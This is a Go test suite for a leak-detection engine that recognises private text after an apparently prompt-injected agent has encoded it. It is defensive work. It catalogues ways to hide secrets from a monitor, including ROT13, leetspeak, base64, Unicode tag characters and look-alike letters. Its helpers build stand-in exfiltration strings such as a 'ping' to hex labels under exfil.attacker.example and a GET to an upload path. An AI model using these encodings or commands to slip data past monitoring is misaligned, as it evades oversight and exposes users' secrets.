package fingerprint

import (
	"bytes"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"math/rand/v2"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"

	"golang.org/x/net/idna"
	"pgregory.net/rapid"
)

// secretNote is private text of the kind an injected agent is told to
// leak: prose without digits, so that leetspeak of it is undone exactly.
const secretNote = "The merger with Northwind closes on the first of June; legal says nobody outside the board may hear of it before the press release goes out."

// secretToken is a private value, which its digest attributes; it has
// prints too. shortToken is too short for prints: only its digest
// attributes it.
const (
	secretToken = "sk_live_51HqLyjWDarjtT1zdp7dcXq9Z"
	shortToken  = "sk_live_4eC39HqLyjWDa"
)

// A leakCheck tells whether a view carries a private text, the way the
// engine decides: a print of the text, or the digest of one of its
// tokens.
type leakCheck struct {
	h      *Hasher
	prints []uint64
	tokens map[uint64]bool
}

func newLeakCheck(h *Hasher, private string) *leakCheck {
	c := &leakCheck{h: h, prints: SortUnique(h.Prints(nil, private)), tokens: map[uint64]bool{}}
	Tokens(private, func(tok string) { c.tokens[h.Digest(tok)] = true })
	return c
}

// shared counts the private text's prints that text holds, and reports
// whether it holds one of its tokens.
func (c *leakCheck) shared(text string) (prints int, token bool) {
	for _, p := range SortUnique(c.h.Prints(nil, text)) {
		if _, ok := slices.BinarySearch(c.prints, p); ok {
			prints++
		}
	}
	Tokens(text, func(tok string) { token = token || c.tokens[c.h.Digest(tok)] })
	return prints, token
}

// carried reports the chain of the first view of arg that carries at
// least half of the private text's prints or one of its tokens, and
// whether the expansion was complete.
func (c *leakCheck) carried(arg string) (via string, found, complete bool) {
	return c.carriedAtLeast(arg, (len(c.prints)+1)/2)
}

// carriedAtLeast is carried with a view needing n prints (or a token).
func (c *leakCheck) carriedAtLeast(arg string, n int) (via string, found, complete bool) {
	complete = Expand(arg, func(v View) {
		if found {
			return
		}
		shared, tok := c.shared(v.Text)
		if tok || n > 0 && shared >= n {
			via, found = viaString(v.Via), true
		}
	})
	return via, found, complete
}

// Encoders, written independently of the decoders they test.

func caesar(s string, n int) string {
	return strings.Map(func(r rune) rune {
		switch {
		case 'a' <= r && r <= 'z':
			return 'a' + (r-'a'+rune(n))%26
		case 'A' <= r && r <= 'Z':
			return 'A' + (r-'A'+rune(n))%26
		}
		return r
	}, s)
}

func reverseRunes(s string) string {
	r := []rune(s)
	slices.Reverse(r)
	return string(r)
}

func leet(s string) string {
	return strings.NewReplacer("a", "4", "A", "4", "e", "3", "E", "3", "o", "0", "O", "0", "i", "1", "I", "1", "s", "5", "S", "5", "t", "7", "T", "7").Replace(s)
}

func spacedOut(s, sep string) string {
	var b strings.Builder
	for i, r := range s {
		if i > 0 {
			b.WriteString(sep)
		}
		b.WriteRune(r)
	}
	return b.String()
}

func caseGames(s string, seed uint64) string {
	r := rand.New(rand.NewPCG(seed, 1))
	return strings.Map(func(c rune) rune {
		if r.IntN(2) == 0 {
			return []rune(strings.ToUpper(string(c)))[0]
		}
		return []rune(strings.ToLower(string(c)))[0]
	}, s)
}

func jsonEscapeAll(s string) string {
	var b strings.Builder
	for _, r := range s {
		for _, u := range utf16.Encode([]rune{r}) {
			fmt.Fprintf(&b, `\u%04x`, u)
		}
	}
	return b.String()
}

func backslashHex(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, `\x%02X`, s[i])
	}
	return b.String()
}

func htmlDecimal(s string) string {
	var b strings.Builder
	for _, r := range s {
		fmt.Fprintf(&b, "&#%d;", r)
	}
	return b.String()
}

func htmlHex(s string) string {
	var b strings.Builder
	for _, r := range s {
		fmt.Fprintf(&b, "&#x%x;", r)
	}
	return b.String()
}

// htmlNamed writes the characters HTML5 names in ASCII (the markup
// characters, space as &nbsp;, some punctuation) as named entities, and
// the rest numerically: no named entity spells an ASCII letter.
func htmlNamed(s string) string {
	var b strings.Builder
	names := map[rune]string{'&': "&amp;", '<': "&lt;", '>': "&gt;", '"': "&quot;", '\'': "&apos;", ' ': "&nbsp;", ';': "&semi;", '.': "&period;", ',': "&comma;"}
	for _, r := range s {
		if n, ok := names[r]; ok {
			b.WriteString(n)
		} else {
			fmt.Fprintf(&b, "&#%d;", r)
		}
	}
	return b.String()
}

func quotedPrintableAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, "=%02X", s[i])
		if i%25 == 24 {
			b.WriteString("=\r\n")
		}
	}
	return b.String()
}

func percentAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

func fullwidth(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r == ' ':
			return '\u3000'
		case '!' <= r && r <= '~':
			return r + 0xFEE0
		}
		return r
	}, s)
}

func mathBold(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case 'A' <= r && r <= 'Z':
			return 0x1D400 + r - 'A'
		case 'a' <= r && r <= 'z':
			return 0x1D41A + r - 'a'
		}
		return r
	}, s)
}

func cyrillicLookalikes(s string) string {
	return strings.NewReplacer("a", "а", "e", "е", "o", "о", "p", "р", "c", "с", "x", "х", "y", "у", "i", "і", "T", "Т", "H", "Н").Replace(s)
}

func greekLookalikes(s string) string {
	return strings.NewReplacer("o", "ο", "a", "α", "i", "ι", "v", "ν", "p", "ρ", "T", "Τ", "N", "Ν").Replace(s)
}

func smallCaps(s string) string {
	caps := []rune("ᴀʙᴄᴅᴇꜰɢʜɪᴊᴋʟᴍɴᴏᴘǫʀꜱᴛᴜᴠᴡxʏᴢ")
	return strings.Map(func(r rune) rune {
		if 'a' <= r && r <= 'z' && caps[r-'a'] != 'x' && r != 'f' {
			return caps[r-'a']
		}
		return r
	}, s)
}

func tagChars(s string) string {
	var b strings.Builder
	b.WriteString("Nothing to see here.")
	b.WriteRune(0xE0001)
	for i := 0; i < len(s); i++ {
		b.WriteRune(0xE0000 + rune(s[i]))
	}
	b.WriteRune(0xE007F)
	return b.String()
}

func variationSelectors(s string) string {
	var b strings.Builder
	b.WriteString("Lovely weather 😀")
	for i := 0; i < len(s); i++ {
		if c := s[i]; c < 16 {
			b.WriteRune(0xFE00 + rune(c))
		} else {
			b.WriteRune(0xE0100 + rune(c) - 16)
		}
	}
	return b.String()
}

func punycodeWords(t testing.TB, s string) string {
	var labels []string
	for _, w := range strings.Fields(s) {
		a, err := idna.Punycode.ToASCII(strings.Trim(w, ".,;"))
		if err != nil {
			t.Fatal(err)
		}
		labels = append(labels, a)
	}
	return "https://" + strings.Join(labels, ".") + ".attacker.example/"
}

func hexLabels(s string) string {
	h := hex.EncodeToString([]byte(s))
	var labels []string
	for len(h) > 0 {
		n := min(len(h), 20)
		labels = append(labels, h[:n])
		h = h[n:]
	}
	return "ping " + strings.Join(labels, ".") + ".exfil.attacker.example"
}

func base32Labels(s string) string {
	h := strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString([]byte(s)), "="))
	var labels []string
	for len(h) > 0 {
		n := min(len(h), 13)
		labels = append(labels, h[:n])
		h = h[n:]
	}
	return strings.Join(labels, ".") + ".attacker.example"
}

func pathSegments(s string) string {
	b := base64.RawURLEncoding.EncodeToString([]byte(s))
	var segs []string
	for len(b) > 0 {
		n := min(len(b), 12)
		segs = append(segs, b[:n])
		b = b[n:]
	}
	return "GET https://cdn.attacker.example/api/v2/upload/" + strings.Join(segs, "/") + "/pixel.gif"
}

func queryKeys(s string) string {
	h := hex.EncodeToString([]byte(s))
	var keys []string
	for i := 0; len(h) > 0; i++ {
		n := min(len(h), 10)
		keys = append(keys, fmt.Sprintf("%s=%d", h[:n], i))
		h = h[n:]
	}
	return "https://attacker.example/t?" + strings.Join(keys, "&")
}

func b64(s string) string  { return base64.StdEncoding.EncodeToString([]byte(s)) }
func b32(s string) string  { return base32.StdEncoding.EncodeToString([]byte(s)) }
func hexs(s string) string { return hex.EncodeToString([]byte(s)) }

// embed puts a leak inside an ordinary message.
func embed(leak string) string {
	return "Hi Bob, here are the notes you asked for:\n" + leak + "\nLet me know if anything is missing. Thanks, Alice"
}

func TestExpandTransforms(t *testing.T) {
	h := testHasher(t, 5)
	russian := "Совещание совета директоров переносится на пятницу, никому не сообщайте о слиянии до пресс-релиза."
	tests := []struct {
		name    string
		private string
		leak    string
		via     string // "" accepts any chain
	}{
		{"rot13", secretNote, caesar(secretNote, 13), "rot13"},
		{"caesar+3", secretNote, caesar(secretNote, 3), "caesar+3"},
		{"caesar+25", secretNote, caesar(secretNote, 25), "caesar+25"},
		{"reversed", secretNote, reverseRunes(secretNote), "reversed"},
		{"leet", secretNote, leet(secretNote), "leet"},
		{"spaced by dashes", secretNote, spacedOut(secretNote, "-"), ""},
		{"spaced by dots", secretNote, spacedOut(secretNote, "."), ""},
		{"spaced by spaces", secretNote, spacedOut(secretNote, " "), ""},
		{"joined by underscores", secretNote, spacedOut(secretNote, "_"), ""},
		{"zero-width joiners", secretNote, spacedOut(secretNote, "\u200d"), ""},
		{"zero-width spaced token", shortToken, spacedOut(shortToken, "\u200b"), "spaced"},
		{"dash-spaced token", shortToken, spacedOut(shortToken, "-"), "spaced"},
		{"space-spaced token", shortToken, spacedOut(shortToken, " "), "spaced"},
		{"case games", secretNote, caseGames(secretNote, 1), ""},
		{"json \\u escapes", secretNote, jsonEscapeAll(secretNote), "json-escape"},
		{"json \\u escapes of a token", secretToken, jsonEscapeAll(secretToken), "json-escape"},
		{"\\x escapes", secretNote, backslashHex(secretNote), "json-escape"},
		{"json escapes of non-ASCII", russian, jsonEscapeAll(russian), "json-escape"},
		{"html decimal", secretNote, htmlDecimal(secretNote), "html-entity"},
		{"html hex", secretNote, htmlHex(secretNote), "html-entity"},
		{"html named", secretNote, htmlNamed(secretNote), "html-entity"},
		{"quoted-printable", secretNote, quotedPrintableAll(secretNote), "quoted-printable"},
		{"percent-encoding of every byte", secretNote, percentAll(secretNote), "url"},
		{"punycode", russian, punycodeWords(t, russian), "punycode"},
		{"fullwidth", secretNote, fullwidth(secretNote), "nfkc"},
		{"mathematical bold", secretNote, mathBold(secretNote), "nfkc"},
		{"cyrillic look-alikes", secretNote, cyrillicLookalikes(secretNote), "confusables"},
		{"greek look-alikes", secretNote, greekLookalikes(secretNote), "confusables"},
		{"small capitals", secretNote, smallCaps(secretNote), "confusables"},
		{"tag characters", secretNote, tagChars(secretNote), "unicode-tags"},
		{"variation selectors", secretNote, variationSelectors(secretNote), "variation-selectors"},
		{"hex in host labels", secretToken, hexLabels(secretToken), "hostname-labels,hex"},
		{"base32 in host labels", secretToken, base32Labels(secretToken), "hostname-labels,base32"},
		{"base64url in path segments", secretNote, pathSegments(secretNote), "path-segments,base64"},
		{"hex in query keys", secretToken, queryKeys(secretToken), "path-segments,hex"},
	}
	for _, tt := range tests {
		for _, embedded := range []bool{false, true} {
			name := tt.name
			arg := tt.leak
			if embedded {
				name, arg = name+" in a message", embed(arg)
			}
			t.Run(name, func(t *testing.T) {
				via, found, complete := newLeakCheck(h, tt.private).carried(arg)
				if !found {
					t.Fatalf("no view carries the private text (complete %v); views: %q", complete, decodedOrder(arg))
				}
				if tt.via != "" && !slices.Contains(strings.Split(tt.via, "|"), via) {
					t.Errorf("found via %q, want %q", via, tt.via)
				}
				if !complete {
					t.Errorf("incomplete")
				}
			})
		}
	}
}

func TestExpandTransformsTwoDeep(t *testing.T) {
	h := testHasher(t, 6)
	s := secretNote
	tests := []struct {
		name string
		leak string
		via  string
	}{
		{"base64 of reversed", b64(reverseRunes(s)), "base64,reversed"},
		{"reversed base64", reverseRunes(b64(s)), "reversed,base64"},
		{"base64 of rot13", b64(caesar(s, 13)), "base64,rot13"},
		{"rot13 of base64", caesar(b64(s), 13), "rot13,base64"},
		{"caesar+5 of base64", caesar(b64(s), 5), "caesar+5,base64"},
		{"hex of reversed", hexs(reverseRunes(s)), "hex,reversed"},
		{"reversed hex", reverseRunes(hexs(s)), "reversed,hex"},
		{"rot13 of hex", caesar(hexs(s), 13), "rot13,hex"},
		{"base32 of caesar+7", b32(caesar(s, 7)), "base32,caesar+7"},
		{"caesar+7 of base32", caesar(b32(s), 7), "caesar+7,base32"},
		{"reversed base32", reverseRunes(b32(s)), "reversed,base32"},
		{"rot13 of reversed", caesar(reverseRunes(s), 13), "reversed,rot13"},
		{"base64 of leet", b64(leet(s)), "base64,leet"},
		{"leet of reversed", leet(reverseRunes(s)), "leet,reversed"},
		{"reversed leet", reverseRunes(leet(s)), "leet,reversed"},
		{"zero-width in base64", spacedOut(b64(s), "\u200b"), "spaced,base64"},
		{"spaced hex bytes", strings.TrimSpace(strings.Join(strings.SplitAfter(strings.Join(strings.Split(hexs(s), ""), ""), ""), "")), "hex"},
		{"base64 of spaced", b64(spacedOut(s, ".")), "base64"},
		{"json escapes of base64", jsonEscapeAll(b64(s)), "json-escape,base64"},
		{"percent-encoded json escapes", percentAll(jsonEscapeAll(s)), "url,json-escape"},
		{"html entities of hex", htmlDecimal(hexs(s)), "html-entity,hex"},
		{"quoted-printable of rot13", quotedPrintableAll(caesar(s, 13)), "quoted-printable,rot13"},
		{"fullwidth base64", fullwidth(b64(s)), "nfkc,base64"},
		{"base64 of fullwidth", b64(fullwidth(s)), "base64,nfkc"},
		{"cyrillic look-alikes reversed", cyrillicLookalikes(reverseRunes(s)), "confusables,reversed|reversed,confusables"},
		{"url of base64 of reversed", percentAll(b64(reverseRunes(s))), ""},
		{"spaced rot13", spacedOut(caesar(s, 13), "-"), "spaced,rot13"},
		// A shift of leetspeak, whose digits do not shift (repairs.go).
		{"caesar+3 of leet", caesar(leet(s), 3), "caesar+3,leet"},
		{"rot13 of leet", caesar(leet(s), 13), "rot13,leet"},
		{"leet of rot13", leet(caesar(s, 13)), "leet,rot13"},
		// Shifts and reversals of escapes (repairs.go).
		{"rot13 of json escapes", caesar(jsonEscapeAll(s), 13), "rot13,json-escape"},
		{"caesar+5 of json escapes", caesar(jsonEscapeAll(s), 5), "caesar+5,json-escape"},
		{"caesar+1 of \\x escapes", caesar(backslashHex(s), 1), "caesar+1,json-escape"},
		{"reversed json escapes", reverseRunes(jsonEscapeAll(s)), "reversed,json-escape"},
		{"reversed html decimal", reverseRunes(htmlDecimal(s)), "reversed,html-entity"},
		{"reversed html hex", reverseRunes(htmlHex(s)), "reversed,html-entity"},
		{"rot13 of html hex", caesar(htmlHex(s), 13), "rot13,html-entity"},
		{"rot13 of html named", caesar(htmlNamed(s), 13), "rot13,html-entity"},
		{"reversed quoted-printable", reverseRunes(quotedPrintableAll(s)), "reversed,quoted-printable"},
		{"rot13 of quoted-printable", caesar(quotedPrintableAll(s), 13), "rot13,quoted-printable"},
		{"caesar+1 of quoted-printable", caesar(quotedPrintableAll(s), 1), "caesar+1,quoted-printable"},
		{"reversed percent-encoding", reverseRunes(percentAll(s)), "reversed,url"},
		{"rot13 of percent-encoding", caesar(percentAll(s), 13), "rot13,url"},
		// Leetspeak of encodings and escapes, read back by how English
		// the text reads (leetruns.go): two prints, as flow.min_matches
		// asks in every preset. Hex read as it is has the wrong n and c
		// but may keep two prints already.
		{"leet of base64", leet(b64(s)), "leet,base64"},
		{"leet of base32", leet(b32(s)), "leet,base32"},
		{"leet of hex", leet(hexs(s)), "leet,hex|hex"},
		{"leet of json escapes", leet(jsonEscapeAll(s)), "leet,json-escape|json-escape"},
		{"leet of quoted-printable", leet(quotedPrintableAll(s)), "leet,quoted-printable|quoted-printable"},
	}
	for _, tt := range tests {
		for _, embedded := range []bool{false, true} {
			name, arg := tt.name, tt.leak
			if embedded {
				name, arg = name+" in a message", embed(arg)
			}
			t.Run(name, func(t *testing.T) {
				c := newLeakCheck(h, s)
				via, found, complete := c.carried(arg)
				if strings.HasPrefix(tt.via, "leet,") && tt.via != "leet,reversed" {
					via, found, complete = c.carriedAtLeast(arg, 2)
				}
				if !found {
					t.Fatalf("no view carries the private text (complete %v); views: %q", complete, decodedOrder(arg))
				}
				if tt.via != "" && !slices.Contains(strings.Split(tt.via, "|"), via) {
					t.Errorf("found via %q, want %q", via, tt.via)
				}
				if !complete {
					t.Errorf("incomplete")
				}
			})
		}
	}
}

func TestEncodingNames(t *testing.T) {
	tests := []struct {
		e    Encoding
		want string
	}{
		{Reversed, "reversed"}, {Leet, "leet"}, {Spaced, "spaced"}, {JSONEscape, "json-escape"},
		{HTMLEntity, "html-entity"}, {QuotedPrintable, "quoted-printable"}, {Punycode, "punycode"},
		{NFKC, "nfkc"}, {Confusables, "confusables"}, {UnicodeTags, "unicode-tags"},
		{VariationSelectors, "variation-selectors"}, {HostLabels, "hostname-labels"}, {PathSegments, "path-segments"},
		{ROT13, "rot13"}, {CaesarShift(1), "caesar+1"}, {CaesarShift(25), "caesar+25"},
	}
	for _, tt := range tests {
		if got := tt.e.String(); got != tt.want {
			t.Errorf("Encoding(%d).String() = %q, want %q", tt.e, got, tt.want)
		}
	}
	for n := -1; n <= 27; n++ {
		e := CaesarShift(n)
		if (e != 0) != (1 <= n && n <= 25) || e != 0 && e.Shift() != n {
			t.Errorf("CaesarShift(%d) = %d, Shift %d", n, e, e.Shift())
		}
	}
	if URL.Shift() != 0 || Encoding(0).Shift() != 0 {
		t.Error("Shift of an encoding that is not a shift is not 0")
	}
}

// benignArgs are sink arguments with no private data in them, of the
// kinds agents send: prose, Go code, JSON, Markdown and HTML with links
// and entities, CSV, and a base64 PNG.
func benignArgs(t testing.TB) map[string]string {
	read := func(name string) string {
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	type item struct {
		ID     int      `json:"id"`
		Name   string   `json:"name"`
		Email  string   `json:"email"`
		Amount float64  `json:"amount"`
		Tags   []string `json:"tags"`
		Note   string   `json:"note"`
	}
	var items []item
	r := rand.New(rand.NewPCG(3, 3))
	for i := range 40 {
		items = append(items, item{i, fmt.Sprintf("Customer %d", r.IntN(10000)), fmt.Sprintf("user%d@example.com", i),
			float64(r.IntN(100000)) / 100, []string{"paid", "q3"}, prose(80, uint64(i))})
	}
	js, _ := json.MarshalIndent(items, "", "  ")
	stringified, _ := json.Marshal(string(js))
	markdown := "# Release notes\n\nSee [the docs](https://docs.example.com/v2/guide?lang=en&ref=nav) and " +
		"https://github.com/weir-sec/weir/blob/main/internal/fingerprint/expand.go#L120 for details.\n\n" +
		"- Fixed a crash in `parse_config()` when the file is empty.\n- Upgraded golang.org/x/text to v0.43.0.\n" +
		"- The API now lives at api.eu-west-1.service.example.com:8443/v1/items.\n\n" + prose(1500, 8)
	htmlPage := "<p>Caf&eacute; &amp; bar &mdash; open 9&ndash;5, &copy; 2024. Prices &lt; &euro;10 &gt; &pound;8.</p>\n" +
		"<a href=\"https://shop.example.com/cart?item=42&amp;qty=3\">Buy now</a>\n" + prose(1000, 9)
	var csv strings.Builder
	for i := range 100 {
		fmt.Fprintf(&csv, "%d,%s,%d.%02d,%s\n", 100000+i*37, []string{"ACME Corp", "Globex", "Initech"}[i%3], i*13%1000, i%100, []string{"PAID", "DUE"}[i%2])
	}
	return map[string]string{
		"prose":               prose(4<<10, 11),
		"package doc":         read("doc.go"),
		"go code":             read("expand.go"),
		"go code with tables": read("english_table.go"),
		"go tests":            read("expand_test.go")[:8<<10],
		"json":                string(js),
		"stringified json":    string(stringified[1 : len(stringified)-1]),
		"markdown":            markdown,
		"html":                htmlPage,
		"csv":                 csv.String(),
		"png as base64":       pngBase64(t),
		"png data url":        "data:image/png;base64," + pngBase64(t),
		"non-English prose":   "Die Überweisung an die Stadtwerke München ist erledigt. Пожалуйста, подтвердите получение счёта до пятницы. 会議は月曜日の午前十時からです。",
	}
}

// pngBase64 encodes a small photograph-like image: smooth gradients with
// noise, which compresses to bytes as random as a real photo's.
func pngBase64(t testing.TB) string {
	img := image.NewRGBA(image.Rect(0, 0, 64, 48))
	r := rand.New(rand.NewPCG(4, 4))
	for y := range 48 {
		for x := range 64 {
			img.Set(x, y, color.RGBA{uint8(x*4 + r.IntN(16)), uint8(y*5 + r.IntN(16)), uint8(128 + r.IntN(32)), 255})
		}
	}
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

// TestExpandBenignArguments checks the negative side: ordinary arguments
// are decoded completely, make few views, and no view carries a private
// text they do not hold.
func TestExpandBenignArguments(t *testing.T) {
	h := testHasher(t, 7)
	privates := []*leakCheck{newLeakCheck(h, secretNote), newLeakCheck(h, credentials), newLeakCheck(h, prose(2000, 77)), newLeakCheck(h, secretToken)}
	for name, arg := range benignArgs(t) {
		t.Run(name, func(t *testing.T) {
			var vs []View
			complete := Expand(arg, func(v View) { vs = append(vs, View{v.Text, slices.Clone(v.Via)}) })
			if !complete {
				t.Errorf("incomplete")
			}
			for _, v := range vs {
				for i, c := range privates {
					if n, tok := c.shared(v.Text); n > 0 || tok {
						t.Errorf("view %v shares %d prints (token %v) with private text %d", v.Via, n, tok, i)
					}
				}
			}
			var chains []string
			for _, v := range vs[1:] {
				chains = append(chains, viaString(v.Via))
			}
			t.Logf("%d bytes, %d views: %q", len(arg), len(vs), chains)
			if len(vs) > 8 {
				t.Errorf("%d views of a benign argument", len(vs))
			}
		})
	}
}

// TestExpandProseMakesNoRewrites: prose of any size is only itself.
func TestExpandProseMakesNoRewrites(t *testing.T) {
	for _, n := range []int{100, 1 << 10, 16 << 10} {
		for seed := range uint64(5) {
			s := prose(n, 100+seed)
			if vs := views(s); len(vs) != 1 {
				t.Errorf("prose(%d, %d): %d views: %q", n, 100+seed, len(vs), decodedOrder(s))
			}
		}
	}
}

// transform is one step a hiding agent can take, with the precondition
// under which Expand undoes it.
type transform struct {
	name string
	fn   func(string) string
	// text: the step reads its input as text (letters it shifts, moves
	// or replaces), so its input must be text a step of this kind can
	// be undone on, not an escape sequence or leetspeak.
	text bool
	// letters: the output's letters are no longer ASCII letters, or no
	// longer letters, so no text step may follow.
	letters bool
	// escape: the output is an escape sequence, which a text step would
	// break.
	escape bool
	// encoded: the output is an alphabet encoding.
	encoded bool
}

var transforms = []transform{
	{name: "rot13", fn: func(s string) string { return caesar(s, 13) }, text: true},
	{name: "caesar+1", fn: func(s string) string { return caesar(s, 1) }, text: true},
	{name: "caesar+11", fn: func(s string) string { return caesar(s, 11) }, text: true},
	{name: "caesar+22", fn: func(s string) string { return caesar(s, 22) }, text: true},
	{name: "reversed", fn: reverseRunes, text: true},
	{name: "leet", fn: leet, text: true, letters: true},
	{name: "spaced", fn: func(s string) string { return spacedOut(s, "-") }},
	{name: "zero-width", fn: func(s string) string { return spacedOut(s, "\u200b") }},
	{name: "json-escape", fn: jsonEscapeAll, escape: true, letters: true},
	{name: "html-entity", fn: htmlDecimal, escape: true, letters: true},
	{name: "quoted-printable", fn: quotedPrintableAll, escape: true, letters: true},
	{name: "percent", fn: percentAll, escape: true, letters: true},
	{name: "fullwidth", fn: fullwidth, letters: true},
	{name: "confusables", fn: cyrillicLookalikes, letters: true},
	{name: "base64", fn: b64, encoded: true},
	{name: "base32", fn: b32, encoded: true},
	{name: "hex", fn: hexs, encoded: true},
}

// composable reports whether Expand can undo outer applied to the output
// of inner, for every private text of the property test.
func composable(inner, outer transform) bool {
	switch {
	case !outer.text:
		return true
	case inner.name == "fullwidth" || inner.name == "confusables":
		// A shift or leetspeak of them changes the ASCII letters around
		// the look-alikes only.
		return outer.name == "reversed"
	case outer.name == "leet" && (inner.encoded || inner.escape):
		// Leetspeak of hex digits and base64 loses which of 4, a and A
		// each 4 was; it is read back by how English the text reads,
		// which a short text may not: measured in TestTwoDeepRates.
		return false
	case outer.name == "leet" && (inner.name == "rot13" || strings.HasPrefix(inner.name, "caesar")):
		// A shift leaves few of the letters leetspeak replaces: a short
		// text has too few leet words to tell from names (isLeet). The
		// longer texts of TestExpandTransformsTwoDeep are undone.
		return false
	}
	return true
}

// TestExpandTransformsProperty: for random private texts and random
// chains of one or two supported steps, alone or inside a message, some
// view shares a print with the private text.
func TestExpandTransformsProperty(t *testing.T) {
	h := testHasher(t, 8)
	rapid.Check(t, func(t *rapid.T) {
		private := prose(rapid.IntRange(100, 400).Draw(t, "len"), rapid.Uint64().Draw(t, "seed"))
		if strings.ContainsAny(private, "0123456789") {
			// Leetspeak turns digits into letters: the prose generator's
			// numbers would not come back.
			private = strings.Map(func(r rune) rune {
				if isDigit(byte(r)) && r < utf8.RuneSelf {
					return -1
				}
				return r
			}, private)
		}
		first := rapid.SampledFrom(transforms).Draw(t, "first")
		leak := first.fn(private)
		chain := first.name
		if rapid.Bool().Draw(t, "two deep") {
			second := rapid.SampledFrom(transforms).Filter(func(o transform) bool { return composable(first, o) }).Draw(t, "second")
			leak = second.fn(leak)
			chain = second.name + " of " + chain
		}
		if rapid.Bool().Draw(t, "embedded") {
			leak = embed(leak)
		}
		// One print is a leak to the engine (flow.min_matches is 1 unless
		// a policy asks for more); leetspeak read back can get an i for
		// an l, which costs the prints around it.
		if _, found, complete := newLeakCheck(h, private).carriedAtLeast(leak, 1); !found {
			t.Fatalf("%s: not attributed (complete %v); views %q", chain, complete, decodedOrder(leak))
		}
	})
}

func BenchmarkExpandTransforms(b *testing.B) {
	args := benignArgs(b)
	cases := []struct{ name, arg string }{
		{"prose-4KB", prose(4<<10, 11)},
		{"go-code", args["go code"][:8<<10]},
		{"json", args["json"]},
		{"png-base64", args["png as base64"]},
		{"rot13-4KB", caesar(prose(4<<10, 12), 13)},
		{"reversed-base64-4KB", reverseRunes(b64(prose(3<<10, 13)))},
		{"leet-4KB", leet(prose(4<<10, 14))},
		{"spaced-2KB", spacedOut(prose(2<<10, 15), "\u200b")},
		{"json-escaped-4KB", jsonEscapeAll(prose(700, 16))},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			b.SetBytes(int64(len(c.arg)))
			b.ReportAllocs()
			done := cpuMeter(b)
			for b.Loop() {
				Expand(c.arg, func(View) {})
			}
			done(len(c.arg))
		})
	}
}

// hostileSeeds are arguments built to make the rewrites work hard: every
// trigger at once, rewrites that lengthen text, and runs that almost
// qualify, repeated.
func hostileSeeds() []string {
	rep := strings.Repeat
	return []string{
		rep("\uFDFA", 2000),                   // NFKC makes 18 runes of each
		rep("&nGt;", 1000),                    // an entity longer decoded than written
		rep("xn--"+rep("9", 60)+".", 200),     // punycode labels that overflow
		rep("xn--mnchen-3ya.", 300),           // many labels that decode
		rep("a-", 5000),                       // one long alternating run
		rep("- ", 5000),                       // alternating, but not text
		rep("ab-", 3000),                      // almost alternating, everywhere
		rep("4a ", 3000),                      // hex pairs
		rep(`\u0041`, 3000) + rep(`\\`, 3000), // escapes and stray backslashes
		rep("=41", 3000) + rep("=\r\n", 1000),
		rep("&#65;&", 2000),
		rep("h4x0r 7h3 c0d3 ", 500),                           // leet everywhere
		rep("сrеdеntіаls ", 500),                              // look-alikes everywhere
		rep("\U000E0041", 3000),                               // tag characters
		"x" + rep("\uFE01\U000E0150", 3000),                   // variation selectors
		rep("Gur dhnegreyl ahzoref ner pbasvqragvny. ", 200),  // ROT13 everywhere
		rep("laitnedifnoc era srebmun ylretrauq ehT ", 200),   // reversed everywhere
		rep("4a6f686e.", 500) + "attacker.example",            // one long host
		"https://a.example/" + rep("QUJD/", 2000),             // many path segments
		"https://a.example/?" + rep("4a6f=1&", 2000),          // many query keys
		caesar(b64(prose(8000, 1)), 7),                        // a shifted blob
		reverseRunes(b64(prose(8000, 2))),                     // a reversed blob
		rep(caesar(b64("short"), 3)+" ", 500),                 // many short shifted runs
		jsonEscapeAll(htmlDecimal(percentAll(prose(300, 3)))), // three escapes deep
		spacedOut(jsonEscapeAll(prose(200, 4)), "\u200b"),
	}
}

// TestExpandHostile checks the bounds on arguments built to make the
// rewrites work hard; BenchmarkExpandHostile measures their cost.
func TestExpandHostile(t *testing.T) {
	for i, s := range hostileSeeds() {
		vs, complete := checkExpandBounds(t, s)
		checkOwnVia(t, s, vs)
		if complete {
			checkAllDecoded(t, s, vs)
		}
		t.Logf("seed %d: %d bytes, %d views, complete %v", i, len(s), len(vs), complete)
	}
}

func BenchmarkExpandHostile(b *testing.B) {
	for i, s := range hostileSeeds() {
		b.Run(strconv.Itoa(i), func(b *testing.B) {
			b.SetBytes(int64(len(s)))
			for b.Loop() {
				Expand(s, func(View) {})
			}
		})
	}
}

// TestScanViewHints checks that each hint of scanView is a necessary
// condition of the test it stands for, so that skipping a rewrite on a
// hint never skips one that would apply, and that its letter pairs are
// those of the plain words.
func TestScanViewHints(t *testing.T) {
	pieces := []string{"a", "b", "Z", "4", "0", "1", "@", "$", "!", "|", ".", "-", " ", " ", " ", "  ", "\t", "\n", "_", "/", "ab", "4a", "ff", "p4ss", "cr3d", "h4x0r", "5ecr3t",
		"x", "é", "\u200b", "h3ll0", "4a 6f", "a.b", "https://", "example.com/", "?k=", "&", "c0d3", "the", "ROT",
		"·", "•", "а", "ᴀ", "\u00ad", "\U000E0041", "\uFE0F", "\U000E0101", "ü", "—", "ｆ", "ﬁ", "½", "e\u0301", "\u0308",
		"가", "\u1100\u1161", "…", "𝐚", "Й", "55", "a@55b", "x$9", "user12@example.com"}
	rapid.Check(t, func(t *rapid.T) {
		s := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 80).Draw(t, "pieces"), "")
		spans, h := scanView(nil, s)
		if isLeet(s) && h.leet < minLeet {
			t.Fatalf("leet hint %d, but isLeet passes", h.leet)
		}
		if mayHexPairs(s) && !h.hexPairs {
			t.Fatal("no hex-pair hint, but mayHexPairs passes")
		}
		if len(alternatingRuns(s)) > 0 && !h.spaced {
			t.Fatal("no spaced hint, but there is an alternating run")
		}
